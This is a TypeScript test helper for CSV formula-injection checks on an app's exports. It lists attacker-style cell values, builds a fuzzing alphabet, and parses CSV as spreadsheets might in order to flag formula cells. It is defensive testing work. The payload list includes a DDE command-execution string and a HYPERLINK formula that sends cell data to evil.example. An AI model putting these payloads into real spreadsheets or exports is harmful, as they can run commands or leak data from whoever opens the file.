/**
 * How spreadsheets in other locales read a CSV: split on `,`, `;` or tab, honouring RFC 4180 quotes
 * (papaparse) or ignoring them (a naive split per line). For the formula-injection tests of our exports.
 */
import Papa from 'papaparse';

/** Names an attacker chooses (issue 31): a trigger after `;`, `,`, tab, line breaks, spaces of every kind, quotes. */
export const HOSTILE_TEXTS = [
  'ACME;=2*3;X',
  'ACME\t=2*3\tX',
  'ACME,=2*3,X',
  ' =2*3',
  '\n=2*3',
  '\r\n=2*3',
  '\u00A0=2*3',
  '\u2007\u202F\u3000=2*3',
  '\t=2*3',
  '\r=2*3',
  '=2*3',
  '+2*3',
  '-2*3',
  '@SUM(1)',
  '=HYPERLINK("http://evil.example/?"&A1;"x")',
  "-2+3+cmd|' /C calc'!A0",
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  'ACME; =2*3',
  'ACME;\u00A0+2',
  'ACME;"=2*3"',
  'ACME; " @x"',
  'ACME,"=2*3",X',
  'a;b\t-c,d\n@e\r+f',
  '＝1+1',
  "'=2*3",
  "ACME;'=2*3",
  "'",
  "L'Oréal; 'quoted'",
  'ACME;;=1;',
  '"',
  '";=1',
];

/** The characters hostile names are fuzzed from: every trigger, separator, space and quote, and some letters. */
export const HOSTILE_ALPHABET = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  ';',
  ',',
  '\t',
  '\r',
  '\n',
  ' ',
  '\u00A0',
  '\u3000',
  '\u200B',
  '"',
  "'",
  'a',
  '1',
  '.',
  '(',
  '*',
  '|',
];

const FORMULA_START = /^[\s\u200B-\u200D\u2060"]*[=+\-@＝＋－＠]/;
const PLAIN_NUMBER = /^\s*-?\d+(\.\d+)?\s*$/;

/** Every reading a spreadsheet might make: each separator, with RFC 4180 quotes and without. */
export function spreadsheetReadings(csv: string): Array<{ how: string; cells: string[] }> {
  const text = csv.replace(/^\uFEFF/, '');
  const out: Array<{ how: string; cells: string[] }> = [];
  for (const delimiter of [',', ';', '\t']) {
    out.push({
      how: `${JSON.stringify(delimiter)} with quotes`,
      cells: Papa.parse<string[]>(text, { delimiter }).data.flat(),
    });
    const lines = text.split(/\r\n|\r|\n/);
    out.push({
      how: `${JSON.stringify(delimiter)} split naively`,
      cells: lines.flatMap((line) => line.split(delimiter)),
    });
  }
  return out;
}

/** The cells of any reading that start (after whitespace and quotes) with = + - @ and are no plain number, named by reading. */
export function formulaCells(csv: string): string[] {
  return spreadsheetReadings(csv).flatMap(({ how, cells }) =>
    cells
      .filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))
      .map((cell) => `${how}: ${JSON.stringify(cell)}`),
  );
}
